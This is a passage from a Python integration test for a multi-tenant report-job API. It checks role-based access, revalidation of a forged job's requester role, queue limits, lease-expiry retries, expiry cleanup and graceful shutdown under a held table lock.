    t.ok(job_done(ivy, ivy_job).get("state") == "done" and
         adm.get("/v1/reports/jobs/" + ivy_job["id"]).status == 200,
         "the cohort's instructor can; so can an admin read theirs")
    t.eq([x["id"] for x in joe.get("/v1/reports/jobs").json["items"]], [],
         "joe's job list is empty")
    listed = [x["id"] for p in walk(adm, "/v1/reports/jobs?limit=2")
              for x in p["items"]]
    t.ok(listed[:2] == [ivy_job["id"], mine["id"]] and
         len(listed) == len(set(listed)) == 10,
         "an admin lists the tenant's jobs, newest first, paged", listed)
    ann = login(d, "acme", "ann@acme.test")
    t.ok(ann.post("/v1/reports/jobs", {"report": "seats"}).is_problem(403),
         "learners ask for no report job")

    # ---- roles change; the queue is bounded
    amy_id = adm.post("/v1/users", {"email": "amy@acme.test", "name": "Amy",
                                    "role": "admin", "password": PW}).json["id"]
    amy = login(d, "acme", "amy@acme.test")
    amy_job = amy.post("/v1/reports/jobs", {"report": "seats"}).json
    job_done(amy, amy_job)
    r = adm.patch("/v1/users/" + amy_id, {"role": "instructor"})
    assert r.status == 200, r
    amy = login(d, "acme", "amy@acme.test")   # a role change ends sessions
    t.ok(amy.get("/v1/reports/jobs/" + amy_job["id"]).is_problem(404) and
         amy.get("/v1/reports/jobs").json["items"] == [],
         "a job asked for as admin is not its requester's once demoted",
         (amy.get("/v1/reports/jobs/" + amy_job["id"]),
          amy.get("/v1/me").json))
    ivy_id = pg.psql("SELECT id FROM users WHERE email = 'ivy@acme.test'", db)
    tenant = "(SELECT id FROM tenants WHERE slug = 'acme')"
    forged = pg.psql("INSERT INTO report_jobs (tenant_id, report, format, "
                     "role, user_id, requested_by) VALUES (%s, 'seats', "
                     "'json', 'admin', '%s', '%s') RETURNING id"
                     % (tenant, ivy_id, ivy_id), db)
    j = job_done(adm, {"id": forged})
    t.ok(j.get("state") == "failed" and "no longer holds the admin role" in
         (j.get("error") or ""), "the runner checks the requester's role "
         "again before it runs a job", j)
    pg.psql("INSERT INTO report_jobs (tenant_id, report, format, role, "
            "requested_by, state, lease_token, lease_until) SELECT %s, "
            "'seats', 'json', 'admin', '%s', 'running', gen_random_uuid(), "
            "now() + interval '1 hour' FROM generate_series(1, 20)"
            % (tenant, ivy_id), db)
    r = adm.post("/v1/reports/jobs", {"report": "seats"})
    t.ok(r.is_problem(503) and r.header("retry-after") == "30",
         "twenty jobs in progress: the tenant's next one gets 503", r)
    pg.psql("DELETE FROM report_jobs WHERE lease_until > now() + "
            "interval '30 minutes'", db)
    t.eq(adm.post("/v1/reports/jobs", {"report": "seats"}).status, 202,
         "and 202 again once they are done")

    # ---- a failed job; a lost runner; expiry
    me = adm.get("/v1/me").json["id"]
    failed = pg.psql("INSERT INTO report_jobs (tenant_id, report, format, "
                     "role, requested_by, state, error) VALUES (%s, 'seats', "
                     "'json', 'admin', '%s', 'failed', 'boom') RETURNING id"
                     % (tenant, me), db)
    r = adm.get("/v1/reports/jobs/%s/result" % failed)
    t.ok(r.is_problem(409) and "failed: boom" in r.json.get("detail", ""),
         "a failed job's result: 409 with the reason", r)
    lost = pg.psql("INSERT INTO report_jobs (tenant_id, report, format, role, "
                   "requested_by, state, attempts, lease_token, lease_until, "
                   "args) VALUES (%s, 'roster', 'csv', 'admin', '%s', "
                   "'running', 1, gen_random_uuid(), now() - interval '1 s', "
                   "'{\"cohort_id\": \"%s\"}') RETURNING id"
                   % (tenant, me, cid), db)
    dead = pg.psql("INSERT INTO report_jobs (tenant_id, report, format, role, "
                   "requested_by, state, attempts, lease_token, lease_until) "
                   "VALUES (%s, 'seats', 'json', 'admin', '%s', 'running', 3, "
                   "gen_random_uuid(), now() - interval '1 s') RETURNING id"
                   % (tenant, me), db)
    j = job_done(adm, {"id": lost})
    t.ok(j.get("state") == "done" and j.get("attempts") == 2 and
         adm.get("/v1/reports/jobs/%s/result" % lost).body ==
         adm.get("/v1/reports/cohorts/%s/roster?format=csv" % cid).body,
         "a job whose runner was lost (lease expired) is taken again and "
         "finished", j)
    j = job_done(adm, {"id": dead})
    t.ok(j.get("state") == "failed" and "lost 3 times" in (j.get("error")
                                                            or ""),
         "after three lost runners a job fails, visibly", j)
    pg.psql("UPDATE report_jobs SET expires_at = now() - interval '1 s' "
            "WHERE id = '%s'" % lost, db)
    d2 = Cohortd(pg.url(db), env={"COHORTD_ROLE": "api"})
    end = time.time() + 20
    while time.time() < end and pg.psql(
            "SELECT count(*) FROM report_chunks WHERE job_id = '%s'" % lost,
            db) != "0":
        time.sleep(0.1)
    t.ok(adm.get("/v1/reports/jobs/" + lost).is_problem(404) and
         pg.psql("SELECT count(*) FROM report_chunks WHERE job_id = '%s'"
                 % lost, db) == "0" and
         adm.get("/v1/reports/jobs/" + mine["id"]).status == 200,
         "expired jobs are deleted with their result (and only they)")

    # ---- shutdown while a report runs: cancelled, queued again, finished
    # by the next process.  A lock held on grade_history (which only the
    # report reads) keeps the grade changes statement waiting, so the job
    # is surely mid-report at SIGTERM.
    d.stop()
    adm2 = d2.client(adm.token)
    # A job first, so that d2's pool holds prepared connections: opening
    # one would itself wait on the lock (PREPARE reads the tables).
    job_done(adm2, adm2.post("/v1/reports/jobs", {"report": "seats"}).json)
    lock = subprocess.Popen([os.path.join(pg.bindir, "psql"), "-X", "-q",
                             "-d", pg.url(db)], stdin=subprocess.PIPE,
                            stdout=subprocess.DEVNULL, text=True)
    lock.stdin.write("BEGIN; LOCK TABLE grade_history IN ACCESS EXCLUSIVE "
                     "MODE; SELECT pg_sleep(0);\n")
    lock.stdin.flush()
    slow = None
    try:
        end = time.time() + 10
        while time.time() < end and pg.psql(
                "SELECT count(*) FROM pg_locks l JOIN pg_class c ON c.oid = "
                "l.relation WHERE c.relname = 'grade_history' AND l.mode = "
                "'AccessExclusiveLock' AND l.granted", db) != "1":
            time.sleep(0.05)
        slow = adm2.post("/v1/reports/jobs",
                         {"report": "grade_changes"}).json["id"]
        end = time.time() + 10
        while time.time() < end and pg.psql(
                "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type "
                "= 'Lock' AND query LIKE '%grade_history%'", db) == "0":
            time.sleep(0.05)
        running = pg.psql("SELECT state FROM report_jobs WHERE id = '%s'"
                          % slow, db)
        t0 = time.time()
        d2.signal(signal.SIGTERM)
        code = d2.wait(20)
        took = time.time() - t0
        after = pg.psql("SELECT state || ' ' || attempts || ' ' || "
                        "(lease_token IS NULL) FROM report_jobs WHERE id = "
                        "'%s'" % slow, db)
        # A new connection prepares statements that read grade_history:
        # behind the lock it gives up after lock_timeout, not never.
        t0 = time.time()
        blocked = Cohortd(pg.url(db), env={"COHORTD_ROLE": "api"},
                          wait=False)
        bcode = blocked.wait(30)
        btook = time.time() - t0
        blog = blocked.log_text()
        blocked.stop()
    finally:
        lock.stdin.write("ROLLBACK;\n")
        lock.stdin.close()
        lock.wait(10)
    t.ok(running == "running" and code == 0 and took < 10 and
         after == "queued 0 true",
         "SIGTERM mid-report: the report is cancelled, the daemon exits at "
         "once and the job is queued again, the attempt not counted",
         (running, code, took, after))
    t.ok(bcode not in (None, 0) and btook < 20 and "lock timeout" in blog,
         "a daemon starting behind the lock gives up after lock_timeout "
         "with the reason, instead of hanging", (bcode, btook, blog[-300:]))
    d3 = Cohortd(pg.url(db), env={"COHORTD_ROLE": "api"})
    j = job_done(d3.client(adm.token), {"id": slow})
    t.ok(j.get("state") == "done" and j.get("rows") == len(gc_all),
         "and the next process finishes it", j)
    d3.stop()


run()
